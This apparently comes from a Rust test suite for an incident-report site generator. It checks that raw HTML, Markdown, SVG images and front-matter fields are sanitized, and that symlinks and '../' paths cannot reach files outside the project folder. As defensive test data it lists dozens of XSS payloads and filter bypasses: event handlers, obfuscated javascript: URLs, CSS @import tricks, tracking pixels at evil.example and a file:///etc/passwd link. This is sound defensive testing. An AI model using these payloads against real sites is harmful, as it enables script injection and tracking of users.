//! What a report holds can't run, call out, or pass for a part of the page; what lies outside the folder stays there.

use super::folder::{Folder, Run};
use super::page::{Tag, broken, dangers, pages, tags};

/// Raw HTML that does something somewhere.
const HTML: [&str; 44] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script >alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<p style=\"position:fixed;inset:0\">x</p>",
    "<p onclick=alert(1)>x</p>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>Log in</button></form>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=//evil.example/>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\" java\nscript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href=blob:x>x</a> <a href=file:///etc/passwd>x</a>",
    "<a href=https://ok.example ping=//evil.example>x</a>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif srcset=\"//evil.example/2.gif 2x\">",
    "<img src=\"\\\\evil.example/x.gif\"><img src=\"/\\evil.example/x.gif\"><img src=\"/&#9;/evil.example/x.gif\">",
    "<video poster=//evil.example src=//evil.example autoplay></video><audio src=//evil.example></audio>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<table background=//evil.example/x><tr><td background=//evil.example/x>x</table>",
    "<blockquote cite=//evil.example>x</blockquote>",
    "<main id=main>x</main><p class=skip role=alert tabindex=9>x</p>",
    "</article></main></body></html><h1>Another page</h1>",
    "<!-- > <img src=x onerror=alert(1)> --!><img src=x onerror=alert(1)>",
    "<![CDATA[ <script>alert(1)</script> ]]><?php x ?>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    // Last, for nothing that follows it is a tag.
    "<title>Another title</title><textarea><noscript><template><plaintext>",
];

/// Markdown that does.
const MARKDOWN: [&str; 22] = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [x](file:///etc/passwd) [x](blob:x)",
    "[x][js] ![x][js] [js]\n\n[js]: javascript:alert(1) \"title\"",
    "<javascript:alert(1)> <data:text/html,x> <vbscript:x>",
    "![x](javascript:alert(1)) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://evil.example/pixel.gif) ![x](//evil.example/pixel.gif)",
    "![\" onerror=\"alert(1)](x.png) [\" onclick=\"x](https://a.example/\" \"\\\" onclick=\\\"x\")",
    "[x](https://a.example/\"onclick=\"alert(1))",
    "[[javascript:alert(1)]] [[\" onclick=\"x]] ![[javascript:alert(1)]]",
    "## x {#page.main onclick=alert(1) .\" style=\"x}",
    "```js\" onclick=\"x\nx\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[x](/\\evil.example) ![x](\\\\evil.example/x.png) ![x](/&#9;/evil.example/x.png)",
    "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
];

/// A report with `what` wherever a report can have it.
fn report(what: &str) -> String {
    let row = what.lines().next().unwrap_or_default();
    format!(
        "## Summary\n\nIt broke, and this is how it was: {row}\n\n{what}\n\n## Timeline\n\n- 2026-03-02 09:14 UTC {row}\n\
         - 09:15 UTC more\n\n## Actions\n\n- [ ] {row}\n\n## Lessons learned\n\n> {row}\n\n* {row}\n\n{what}\n"
    )
}

#[track_caller]
fn harmless(run: &Run, what: &str) {
    assert_eq!(run.code, Some(0), "{what}: {}", run.stderr);
    let mut found = dangers(&run.site);
    // What stands in a report twice has its ids twice.
    found.retain(|danger| !danger.contains("an id that stands twice"));
    assert_eq!(found, [""; 0], "{what}");
    for (path, html) in pages(&run.site) {
        let page = tags(&html);
        let count = |name: &str| page.iter().filter(|tag| tag.name == name).count();
        assert!(!page.iter().any(is_foreign_svg), "{what}: {path}");
        // The box of the search is all that can be filled in.
        let fields = (count("form"), count("input"), count("button"));
        let is_redirect = page.iter().any(|tag| tag.get("http-equiv") == Some("refresh"));
        let expected = match path {
            _ if is_redirect => (0, 0, 0),
            "search/index.html" => (1, 1, 1),
            _ => (1, 1, 0),
        };
        assert_eq!(fields, expected, "{what}: {path}");
        for once in ["main", "title", "body", "head"] {
            assert_eq!(count(once), 1, "{what}: {path}: {once}");
        }
        assert!(html.trim_end().ends_with("</html>"), "{what}: {path}");
    }
}

/// An image that no template draws.
fn is_foreign_svg(tag: &Tag) -> bool {
    let drawn = |class: &str| class.split(' ').any(|class| matches!(class, "axis" | "years" | "bar"));
    tag.name == "svg" && !tag.get("class").is_some_and(drawn)
}

#[test]
fn raw_html_is_harmless() {
    for html in HTML {
        harmless(&Folder::new().file("incidents/a.md", report(html)).build(), html);
    }
}

#[test]
fn markdown_is_harmless() {
    for markdown in MARKDOWN {
        harmless(
            &Folder::new().file("incidents/a.md", report(markdown)).build(),
            markdown,
        );
        // Raw HTML elsewhere sends the body through the sanitizer.
        let both = report(markdown) + "\n<b>x</b>\n";
        harmless(&Folder::new().file("incidents/a.md", both).build(), markdown);
    }
}

#[test]
fn all_at_once_is_harmless() {
    let all = HTML
        .iter()
        .chain(&MARKDOWN)
        .map(|what| report(what))
        .collect::<Vec<_>>()
        .join("\n\n");
    harmless(&Folder::new().file("incidents/a.md", all).build(), "all");
}

#[test]
fn no_id_stands_twice() {
    let told = "+++\nid = \"A\"\nlessons = [\"a\"]\nimpact = [{ what = \"a\" }]\ncauses = [{ text = \"a b\" }]\nactions = [{ text \
                = \"a\" }]\n+++\n";
    let mut clashes = Vec::new();
    for (what, text) in [
        ("of the page", "# A\n\n<p id=\"page.main\">x</p>\n".to_owned()),
        ("of a heading", "# A\n\n## Summary\n\n<p id=summary>x</p>\n".to_owned()),
        (
            "of a heading that comes later",
            "# A\n\n<p id=summary>x</p>\n\n## Summary\n\nx\n".to_owned(),
        ),
        (
            "of a heading that hansei adds",
            format!("{told}<p id=lessons>x</p><p id=impact>x</p><p id=causes>x</p><p id=actions>x</p>\n"),
        ),
        (
            "of headings alike",
            "# A\n\n## B\n\n## B\n\n## B 2\n\n## C {#b}\n\n## D {#b-2}\n".to_owned(),
        ),
        (
            "of a footnote",
            "# A\n\nx[^1]\n\n[^1]: y\n\n<p id=fn-1>x</p>\n".to_owned(),
        ),
        (
            "of a footnote and a heading",
            "# A\n\nx[^1]\n\n## fn 1\n\n## fnref 1\n\n[^1]: y\n".to_owned(),
        ),
        (
            "of a footnote that is told twice",
            "# A\n\nx[^1]\n\n[^1]: y\n\n[^1]: z\n".to_owned(),
        ),
        (
            "of footnotes in a timeline",
            "# A\n\nx[^1]\n\n## Timeline\n\n- 09:14 y[^2]\n- 09:15 z[^1]\n\n[^1]: a\n\n[^2]: b\n".to_owned(),
        ),
    ] {
        let run = Folder::new().file("incidents/a.md", text).build().ended(0);
        if !dangers(&run.site).is_empty() {
            clashes.push(format!("{what}: {:?}", dangers(&run.site)));
        }
    }
    assert_eq!(clashes, [""; 0]);
}

/// Every way back and forth leads somewhere.
#[test]
fn footnotes_lead_to_each_other() {
    for text in [
        "# A\n\nx[^1] y[^two] z[^1]\n\n[^1]: a\n\n[^two]: b[^1]\n\n[^three]: c\n",
        "# A\n\n## Timeline\n\n- 09:14 y[^2]\n- 09:15 z[^1]\n\nMore[^1].\n\n[^1]: a\n\n[^2]: b\n",
        "# A\n\n## Timeline\n\n| a | b |\n|---|---|\n| 09:14 | z[^1] |\n\n[^1]: a\n",
        "# A\n\n## Timeline\n\n- 09:14 y[^1]\n\n[^1]: a <b>x</b>\n",
        "# A\n\nx[^1]\n",
    ] {
        let run = Folder::new().file("incidents/a.md", text).build().ended(0);
        assert_eq!(broken(&run.site), [""; 0], "{text}");
    }
}

#[test]
fn front_matter_is_text() {
    for what in HTML {
        let what = what.replace('\n', " ");
        let quoted = toml::Value::String(what.clone()).to_string();
        let front = format!(
            "+++\nid = {quoted}\ntitle = {quoted}\nstatus = {quoted}\nseverity = {quoted}\nservices = [{quoted}]\nteams = \
             [{quoted}]\ncommander = {quoted}\ncauses = [{quoted}, {{ text = {quoted} }}]\ntags = [{quoted}]\nrelated = \
             [{quoted}]\nsummary = {quoted}\nlessons = [{quoted}]\noriginal = {quoted}\nodd = {quoted}\nhypotheses = \
             [{{ statement = {quoted}, test = {quoted} }}]\nimpact = [{{ what = {quoted}, value = {quoted}, unit = {quoted} \
             }}]\nactions = [{{ text = {quoted}, owner = {quoted}, ticket = {quoted} }}]\ntimeline = [{{ time = \"09:14\", \
             text = {quoted} }}]\n+++\n"
        );
        harmless(&Folder::new().file("incidents/a.md", front).build(), &what);
        let settings = format!("title = {quoted}\nnoun = {quoted}\ncause_label = {quoted}\nlanguage = {quoted}\n");
        let folder = Folder::new()
            .file("hansei.toml", settings)
            .file("incidents/a.md", "# A\n\nText.\n");
        harmless(&folder.build(), &what);
    }
}

#[test]
fn an_address_in_a_field_is_linked_only_when_it_is_harmless() {
    for address in [
        "javascript:alert(1)",
        "data:text/html,x",
        " javascript:alert(1)",
        "java\\tscript:x",
        "vbscript:x",
    ] {
        let front = format!(
            "+++\nid = \"A\"\ntitle = \"A\"\noriginal = \"{address}\"\naliases = [\"{address}\"]\nactions = [{{ text = \"a\", \
             ticket = \"{address}\" }}]\n+++\n"
        );
        let settings = format!(
            "base_url = \"{address}\"\nsource_url = \"{address}/{{path}}\"\n[[nav]]\ntitle = \"x\"\nurl = \"{address}\"\n"
        );
        let folder = Folder::new()
            .file("hansei.toml", settings)
            .file("incidents/a.md", front);
        harmless(&folder.build(), address);
    }
}

#[test]
fn what_is_refused_is_named() {
    let text =
        "# A\n\nText [x](javascript:alert(1)) and [y][r] and <data:text/html,x> and ![z](vbscript:x).\n\n[r]: blob:x\n";
    let run = Folder::new()
        .file("incidents/a.md", text)
        .run(&["build", "-v"])
        .ended(0);
    for scheme in ["javascript:", "blob:", "data:", "vbscript:"] {
        assert!(run.stderr.contains(&format!("`{scheme}`")), "{scheme}: {}", run.stderr);
    }
    let run = Folder::new().file("incidents/a.md", text).run(&["build", "--strict"]);
    assert_eq!(run.code, Some(1));
}

/// SVG images that are more than images.
const SVG: [(&str, &str); 23] = [
    ("script", "<script>alert(1)</script>"),
    ("handler", "<rect onclick='alert(1)'/>"),
    ("load", "<animate onbegin='alert(1)'/>"),
    ("foreign", "<foreignObject><p>x</p></foreignObject>"),
    ("link", "<a href='javascript:alert(1)'><text>x</text></a>"),
    ("outside", "<image href='https://evil.example/x.png'/>"),
    ("xlink", "<image xlink:href='//evil.example/x.png'/>"),
    ("use", "<use href='https://evil.example/x.svg#a'/>"),
    ("style", "<style>@import url(//evil.example/x.css);</style>"),
    ("fill", "<rect fill='url(https://evil.example/x#a)'/>"),
    ("attribute", "<rect style='background:url(//evil.example)'/>"),
    ("set", "<set attributeName='onclick' to='alert(1)'/>"),
    ("data", "<image href='data:image/svg+xml,x'/>"),
    ("iframe", "<iframe xmlns='http://www.w3.org/1999/xhtml' src='x'/>"),
    ("unfinished", "<rect"),
    ("escaped", "<style>@imp&#111;rt '//evil.example'</style>"),
    ("nested", "<style><g></g>@import url(//evil.example/x.css);</style>"),
    ("css", "<style>@\\69mport '//evil.example/x.css';</style>"),
    ("comment", "<style>@imp<!-- -->ort '//evil.example/x.css';</style>"),
    ("presentation", "<rect mask='\\75rl(//evil.example/x)'/>"),
    (
        "animate",
        "<a><animate attributeName='href' values='javascript:alert(1)'/></a>",
    ),
    (
        "prefix",
        "<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>",
    ),
    (
        "xhtml",
        "<h:img xmlns:h='http://www.w3.org/1999/xhtml' srcset='//evil.example/x.png'/>",
    ),
];

fn svg(inner: &str) -> String {
    format!("<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>{inner}</svg>")
}

#[test]
fn an_image_that_is_more_is_refused_and_named() {
    let shown: String = SVG
        .iter()
        .map(|(name, _)| format!("![a]({name}.svg) ![b]({name}.SVG)\n"))
        .collect();
    let mut folder = Folder::new()
        .file("incidents/a.md", format!("# A\n\n{shown}\n![good](good.svg)\n"))
        .file("incidents/good.svg", svg("<title>x</title><rect width='3'/>"))
        .file("static/good.svg", svg("<circle r='1'/>"));
    for (name, inner) in SVG {
        folder = folder
            .file(&format!("incidents/{name}.svg"), svg(inner))
            .file(&format!("incidents/{name}.SVG"), svg(inner))
            .file(&format!("static/{name}.svg"), svg(inner));
    }
    let run = folder.run(&["build", "-v"]).ended(0);
    let copied: Vec<_> = run
        .site
        .keys()
        .filter(|path| path.to_lowercase().ends_with(".svg"))
        .collect();
    assert_eq!(copied, ["favicon.svg", "good.svg", "incidents/a/good.svg"]);
    for (name, _) in SVG {
        for path in [
            format!("incidents/{name}.svg"),
            format!("incidents/{name}.SVG"),
            format!("static/{name}.svg"),
        ] {
            assert!(run.stderr.contains(&path), "{path}");
        }
    }
    assert_eq!(folder.run(&["build", "--strict"]).code, Some(1));
    harmless(&run, "SVG");
}

#[test]
fn what_lies_outside_the_folder_stays_outside() {
    use std::os::unix::fs::symlink;
    let folder = Folder::new().file(
        "incidents/a.md",
        "# A\n\n[a](../../outside/zanzibar.md) ![b](../../outside/zanzibar.png) [c](/../outside/zanzibar.md) \
         ![d](%2e%2e/%2e%2e/outside/zanzibar.png) [e](..\\..\\outside\\zanzibar.md) <img src=\"../../outside/zanzibar.png\">\n",
    );
    folder.put("outside/zanzibar.md", "# Zanzibar\n\nzanzibar text\n");
    folder.put("outside/zanzibar.png", "zanzibar bytes");
    let link = |target: &str, at: &str| symlink(folder.at(target), folder.at("content").join(at)).expect("a link");
    link("outside/zanzibar.md", "incidents/file.md");
    link("outside/zanzibar.png", "incidents/picture.png");
    link("outside", "incidents/folder");
    std::fs::create_dir(folder.at("content/static")).expect("a folder");
    link("outside", "static/folder");
    link("outside/zanzibar.png", "static/picture.png");

    let run = folder.run(&["build", "-v"]).ended(0);
    for (path, bytes) in &run.site {
        let text = String::from_utf8_lossy(bytes).to_lowercase();
        let held =
            text.contains("zanzibar text") || text.contains("zanzibar bytes") || text.contains("<title>zanzibar");
        assert!(!held && !path.ends_with(".png"), "{path}");
    }
    assert_eq!(run.reports(), ["a"]);
    for path in [
        "incidents/file.md",
        "incidents/picture.png",
        "incidents/folder",
        "static/folder",
        "static/picture.png",
    ] {
        assert!(
            run.stderr.contains(&format!("the link `{path}`")),
            "{path}: {}",
            run.stderr
        );
    }
    assert!(
        run.stderr
            .contains("`../../outside/zanzibar.md` leads out of the folder"),
        "{}",
        run.stderr
    );
    assert_eq!(folder.run(&["build", "--strict"]).code, Some(1));
}
